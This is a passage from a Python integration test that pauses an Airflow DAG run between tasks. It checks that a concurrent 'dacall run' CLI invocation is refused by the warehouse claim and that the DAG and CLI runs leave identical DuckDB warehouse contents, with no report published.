    ingest_step(landing, dag_warehouse)
    # The DAG run is held between two of its tasks (outside the run lock, which each task holds
    # only while it runs), and a `dacall run` tries the gap: the DAG run's claim refuses it.
    go = tmp_path / "go"
    log = tmp_path / "dag_run.log"
    with log.open("w") as out:  # a file, not a pipe: Airflow writes more than a pipe holds
        dag_run = subprocess.Popen(
            [AIRFLOW, "dags", "test", "dacall_transform", "2025-07-11"],
            env=dict(
                env,
                DACALL_TEST_PAUSE_AT=after_step("build_staging"),
                DACALL_TEST_PAUSE_FILE=str(go),
            ),
            stdout=out,
            stderr=subprocess.STDOUT,
        )
        deadline = time.monotonic() + 600
        while not go.with_name("go.waiting").exists():
            assert dag_run.poll() is None, log.read_text()[-3000:]
            assert time.monotonic() < deadline, "the DAG run never reached the gap"
            time.sleep(0.2)
        in_the_gap = dacall("run", "--landing", landing, "--warehouse", dag_warehouse)
        go.touch()
        dag_run.wait(timeout=900)
    output = log.read_text()
    assert in_the_gap.returncode == 2, in_the_gap.stdout[-2000:] + in_the_gap.stderr[-2000:]
    assert "Traceback" not in in_the_gap.stderr
    [refusal] = in_the_gap.stderr.splitlines()
    assert "Airflow run" in refusal and "between its tasks" in refusal
    assert "this run did nothing" in refusal
    # The teardown released the claim however the run ended (here: failed).
    assert not dag_warehouse.with_name(dag_warehouse.name + ".run-claim").exists()
    assert "DagRun Finished: dag_id=dacall_transform" in output, output[-3000:]
    assert "state=failed" in output and "state=success" not in output.split("DagRun Finished")[-1]
    assert "ALERT task failed: dacall_transform.verdict" in output
    assert re.search(
        r"ALERT \d+ quality gate\(s\) failed: .*gate_raw_audit_rms on raw\.audit_rms: FAIL", output
    )
    # The same parts named as stopped, in the same words and order.
    assert "; ".join(stopped) in output
    # The same steps ran and the same were skipped.
    states = dict(
        query_sqlite(
            home / "airflow.db",
            "select task_id, state from task_instance where dag_id = 'dacall_transform'",
        )
    )
    ran_in_cli = {s.name for s in steps_of("dacall_transform") if s.says in by_cli.stderr}
    claim_tasks = {"claim_warehouse", "release_warehouse"}
    assert {states.pop(task) for task in claim_tasks} == {"success"}
    assert {task for task, state in states.items() if state == "success"} == ran_in_cli
    assert {task for task, state in states.items() if state == "skipped"} == {
        "compliance",
        "publish",
    }
    assert states["verdict"] == "failed"
    # The same warehouse: steps recorded, validations, and every table's rows.
    cli_warehouse = tmp_path / "cli" / "w.duckdb"

    def outcome(warehouse):
        def rows_of(schema, table):
            """Every column but those no two runs share (compare_warehouses.NOT_COMPARED)."""
            columns = query(
                warehouse,
                "select column_name from information_schema.columns where table_schema = ? "
                "and table_name = ? order by ordinal_position",
                [schema, table],
            )
            quoted = ", ".join('"' + c + '"' for (c,) in columns if c not in NOT_COMPARED)
            return f"select {quoted} from {schema}.{table}"

        tables = query(
            warehouse,
            "select table_schema, table_name from information_schema.tables "
            "where table_schema in ('staging', 'intermediate', 'marts') order by all",
        )
        return {
            "steps": query(
                warehouse, "select step, status from audit.pipeline_runs order by started_at"
            ),
            "validations": query(
                warehouse,
                "select suite, target, bool_and(success) from audit.validation_results "
                "group by all order by all",
            ),
            "tables": {
                f"{schema}.{table}": sorted(map(repr, query(warehouse, rows_of(schema, table))))
                for schema, table in tables
            },
        }

    assert outcome(dag_warehouse) == outcome(cli_warehouse)
    # Nothing was published from the stale marts, by either.
    assert not (home / "reports" / "report.html").exists()
    assert not (tmp_path / "cli" / "reports" / "report.html").exists()
